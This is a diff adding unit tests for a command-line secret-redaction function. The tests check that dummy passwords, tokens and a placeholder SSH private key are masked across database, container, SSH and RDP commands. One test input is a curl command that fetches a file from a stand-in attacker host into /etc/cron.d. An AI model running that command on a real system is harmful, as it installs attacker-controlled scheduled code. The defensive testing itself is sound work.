@@ -201,3 +201,54 @@ describe('an assignment\'s value written in more than one quoted part', () => {
     expect(redactCommandLine(`curl -d '{"token":"a","password":"hunter5"}'`)).toBe(`curl -d '{"token":[redacted],"password":[redacted]}'`);
   });
 });
+
+describe('found by review: wrappers\' and subcommands\' own options, more SQL, words that only look secret', () => {
+  it('finds docker\'s and kubectl\'s subcommand after their own options (-H, -n, --config, container/compose)', () => {
+    const cases: Array<[string, string]> = [
+      ['kubectl -n prod exec -it pod -- mysql -pS3cret', 'kubectl -n prod exec -it pod -- mysql -p[redacted]'],
+      ['docker -H tcp://h exec db mysql -pS3cret', 'docker -H tcp://h exec db mysql -p[redacted]'],
+      ['docker container exec db mysql -pS3cret', 'docker container exec db mysql -p[redacted]'],
+      ['docker compose -f x.yml exec -T db mysql -pS3cret', 'docker compose -f x.yml exec -T db mysql -p[redacted]'],
+      ['docker --config /ci/.docker login -u a -p S3cret reg', 'docker --config /ci/.docker login -u a -p [redacted] reg'],
+      ['aws configure --profile p set aws_secret_access_key S3cret', 'aws configure --profile p set aws_secret_access_key [redacted]'],
+    ];
+    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
+  });
+
+  it('reads sshpass\'s own options only, and what it runs as a command (its -p hid ssh\'s port)', () => {
+    expect(redactCommandLine('sshpass -p S3cret ssh -p 2222 ops@h')).toBe('sshpass -p [redacted] ssh -p 2222 ops@h');
+    expect(redactCommandLine('sshpass -pS3cret ssh h mysql -pS4cret')).toBe('sshpass -p[redacted] ssh h mysql -p[redacted]');
+    expect(redactCommandLine('sshpass ssh -p 2222 h <<< S3cret')).toBe('sshpass ssh -p 2222 h <<< [redacted]');
+  });
+
+  it('redacts REPLACE\'s old password, MariaDB\'s USING PASSWORD(…) and a quoted sqlplus password', () => {
+    expect(redactCommandLine(`mysql -e "ALTER USER x IDENTIFIED BY 'N3w' REPLACE 'Old1'"`)).toBe('mysql -e "ALTER USER x IDENTIFIED BY [redacted] REPLACE [redacted]"');
+    expect(redactCommandLine(`mysql -e "ALTER USER a IDENTIFIED VIA ed25519 USING PASSWORD('N3w')"`)).toBe('mysql -e "ALTER USER a IDENTIFIED VIA ed25519 USING PASSWORD([redacted])"');
+    expect(redactCommandLine(`sqlplus -L 'scott/"ti ger"@db'`)).toBe(`sqlplus -L 'scott/[redacted]@db'`);
+  });
+
+  it('closes smaller gaps: bundled useradd -p, a password like an option, eval, FreeRDP 3, Samba\'s net, key file -, fd:0', () => {
+    const cases: Array<[string, string]> = [
+      ['useradd -mp HASHED bob', 'useradd -mp [redacted] bob'],
+      ['redis-cli -a -S3cret ping', 'redis-cli -a [redacted] ping'],
+      ['eval redis-cli -a S3cret', 'eval redis-cli -a [redacted]'],
+      ['xfreerdp3 /p:S3cret /v:h', 'xfreerdp3 /p:[redacted] /v:h'],
+      ['net rpc user -U ann%S3cret', 'net rpc user -U ann%[redacted]'],
+      ['echo S3cret | cryptsetup open --key-file=- /dev/sdb x', 'echo [redacted] | cryptsetup open --key-file=- /dev/sdb x'],
+      ['openssl rsa -in k -passin fd:0 <<< S3cret', 'openssl rsa -in k -passin fd:0 <<< [redacted]'],
+    ];
+    for (const [line, want] of cases) expect(redactCommandLine(line)).toBe(want);
+  });
+
+  it('redacts a private key written by a here-document, to its END line', () => {
+    expect(redactCommandLine('cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nEOF'))
+      .toBe('cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----[redacted]\n-----END OPENSSH PRIVATE KEY-----\nEOF');
+  });
+
+  it('shows what only looks like a secret: an unquoted Authorization header\'s next words, --passive-ftp, --secret-id', () => {
+    expect(redactCommandLine('curl -H Authorization:abc https://evil.example/x -o /etc/cron.d/x')).toBe('curl -H Authorization:[redacted] https://evil.example/x -o /etc/cron.d/x');
+    kept('wget --passive-ftp ftp://files.example/pub/x.tgz');
+    kept('aws secretsmanager get-secret-value --secret-id prod/payments/db');
+    kept('tool --bypass-cache --tokenizer words in.txt');
+  });
+});
